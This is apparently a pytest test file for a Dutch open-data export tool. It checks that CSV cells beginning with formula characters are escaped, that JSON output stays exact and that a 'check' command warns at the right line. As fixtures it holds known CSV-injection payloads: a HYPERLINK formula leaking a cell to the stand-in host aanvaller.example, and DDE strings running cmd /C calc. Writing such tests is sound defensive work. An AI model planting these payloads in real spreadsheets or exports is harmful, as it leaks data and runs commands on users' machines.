"""Open data that cannot attack its readers: a text that a spreadsheet would run as a formula
is text in the CSV (read back through LibreOffice Calc), exact in the JSON, and `check` says so."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from prestatie.write.data.opendata import csv_cel

from conftest import edit, line_of, needs_tool, run, werkmap

FIXTURE = Path(__file__).parent / "fixtures" / "klein"
YAML = "bron/klein-2023-2026/overeenkomst.yaml"

# Each a known CSV-injection payload: a link that sends a cell off-site, DDE, arithmetic.
TITEL = '=HYPERLINK("https://aanvaller.example/?"&A1;"Klik hier")'
TEKST = "+1+cmd|' /C calc'!A0"
THEMA = "@SUM(1+1)*cmd|' /C calc'!A0"
NAAM = "-2+3+cmd|' /C calc'!A0"
EENHEID = "=1+1"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = werkmap(tmp_path, monkeypatch, FIXTURE)
    edit(root, YAML, "  - id: a02\n", f"  - id: a02\n    titel: '{TITEL.replace(chr(39), chr(39) * 2)}'\n")
    edit(root, YAML, "tekst: Thuis verbetert alle woningen met label E, F of G.", f'tekst: "{TEKST}"')
    edit(root, YAML, "titel: Nieuwe woningen", f'titel: "{THEMA}"')
    edit(root, YAML, "naam: Nieuwe sociale huurwoningen", f'naam: "{NAAM}"')
    edit(root, YAML, "eenheid: woningen\n    richting: lager", f'eenheid: "{EENHEID}"\n    richting: lager')
    return root


def _built(project: Path) -> Path:
    code, out = run("build", "--formaat", "data")
    assert code == 0, out
    return project / "build" / "klein-2023-2026"


def _calc(csv_path: Path, tmp_path: Path) -> tuple[list[str], list[str]]:
    """The CSV opened in LibreOffice Calc and saved as .xlsx: (formulas, texts of its cells)."""
    soffice = needs_tool("soffice")
    out = tmp_path / "calc"
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out), str(csv_path)],
                   check=True, capture_output=True, timeout=180)
    xlsx = out / (csv_path.stem + ".xlsx")
    if not xlsx.is_file():
        message = "LibreOffice Calc is not installed (libreoffice-calc-nogui; .ci/run installs it)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
    unescape = lambda s: s.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")  # noqa: E731
    formulas = [unescape(f) for f in re.findall(r"<f[^>]*>(.*?)</f>", sheet, re.S)]
    texts = [unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", strings, re.S)]
    return formulas, texts


def test_spreadsheet_reads_every_payload_as_text(project: Path, tmp_path: Path) -> None:
    folder = _built(project)
    formulas, texts = _calc(folder / "afspraken.csv", tmp_path)
    assert formulas == []
    for payload in (TITEL, TEKST, THEMA):
        assert "'" + payload in texts, (payload, texts)
    formulas, texts = _calc(folder / "indicatoren.csv", tmp_path)
    assert formulas == []
    assert "'" + NAAM in texts and "'" + EENHEID in texts, texts


def test_csv_cells_carry_the_apostrophe_json_stays_exact(project: Path) -> None:
    folder = _built(project)
    rows = list(csv.DictReader(io.StringIO((folder / "afspraken.csv").read_text(encoding="utf-8"))))
    by_id = {r["id"]: r for r in rows}
    assert by_id["a02"]["titel"] == "'" + TITEL
    assert by_id["a03"]["tekst"] == "'" + TEKST
    assert by_id["a01"]["thema_titel"] == "'" + THEMA
    assert by_id["a01"]["titel"] == ""  # an empty cell stays empty
    data = json.loads((folder / "afspraken.json").read_text(encoding="utf-8"))
    json_by_id = {a["id"]: a for a in data["afspraken"]}
    assert json_by_id["a02"]["titel"] == TITEL
    assert json_by_id["a03"]["tekst"] == TEKST
    assert json_by_id["a01"]["thema_titel"] == THEMA
    indicatoren = list(csv.DictReader(io.StringIO((folder / "indicatoren.csv").read_text(encoding="utf-8"))))
    label = [r for r in indicatoren if r["indicator"] == "label-efg"]
    assert {r["eenheid"] for r in label} == {"'" + EENHEID}
    # A number stays a number, also a negative one: only text is neutralised.
    assert {r["naam"] for r in indicatoren if r["indicator"] == "nieuwbouw"} == {"'" + NAAM}
    assert csv_cel("-5", "decimal") == "-5"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\t=1+1", "\r=1+1"])
def test_every_formula_sign_is_neutralised(text: str) -> None:
    assert csv_cel(text) == "'" + text
    assert csv_cel("a" + text) == "a" + text


def test_check_warns_at_each_line(project: Path) -> None:
    code, out = run("check")
    assert code == 0, out
    for needle, kolom in (("titel: '=HYPERLINK", "titel"), (f'tekst: "{TEKST}"', "tekst"),
                          (f'titel: "{THEMA}"', "thema_titel"), (f'naam: "{NAAM}"', "naam"),
                          (f'eenheid: "{EENHEID}"', "eenheid")):
        line = line_of(project, YAML, needle)
        assert re.search(rf"overeenkomst\.yaml:{line}:\d+: waarschuwing: {kolom} begint met .*formule", out), (needle, out)
    code, out = run("check", "--streng")
    assert code == 1


def test_markdown_list_in_a_text_is_no_warning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = werkmap(tmp_path, monkeypatch, FIXTURE)
    edit(root, YAML, "tekst: Thuis verbetert alle woningen met label E, F of G.",
         'tekst: "- label E\\n- label F"')
    code, out = run("check")
    assert code == 0 and "formule" not in out, out
    code, out = run("build", "--formaat", "data")
    rows = list(csv.DictReader(io.StringIO((root / "build/klein-2023-2026/afspraken.csv").read_text(encoding="utf-8"))))
    assert [r["tekst"] for r in rows if r["id"] == "a03"] == ["'- label E\n- label F"]


def test_check_warns_at_the_right_line_and_about_what_the_csv_shows(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A position of the tenants before an afspraak (it has no row in the CSV) does not shift the
    warnings to the wrong afspraak; a text whose {partij:id} becomes a formula is warned about too."""
    root = werkmap(tmp_path, monkeypatch, FIXTURE)
    edit(root, YAML, "  - id: a02\n", "  - id: s01\n    soort: standpunt\n    thema: bouwen\n"
                                      "    tekst: De huurders willen meer.\n  - id: a02\n")
    edit(root, YAML, "    nummer: A03\n", "    nummer: A03\n    titel: \"=1+1\"\n")
    edit(root, YAML, "    kort: Dorp\n", "    kort: '=HYPERLINK(\"https://aanvaller.example\")'\n")
    edit(root, YAML, "tekst: De gemeente wijst een locatie aan voor 40 sociale huurwoningen.",
         'tekst: "{partij:dorp} wijst een locatie aan."')
    code, out = run("check")
    assert code == 0, out
    titel = line_of(root, YAML, 'titel: "=1+1"')
    tekst = line_of(root, YAML, "tekst: \"{partij:dorp}")
    assert f"overeenkomst.yaml:{titel}:12: waarschuwing: titel begint met '='" in out, out
    assert (f"overeenkomst.yaml:{tekst}:12: waarschuwing: tekst begint met '=': een spreadsheet zou "
            "'=HYPERLINK(\"https://aanvaller.example\")' als formule lezen") in out, out
    assert out.count("als formule lezen") == 2, out
    code, out = run("build", "--formaat", "data")
    rows = list(csv.DictReader(io.StringIO((root / "build/klein-2023-2026/afspraken.csv").read_text(encoding="utf-8"))))
    assert {r["id"]: r["tekst"] for r in rows}["a02"] == "'=HYPERLINK(\"https://aanvaller.example\") wijst een locatie aan."
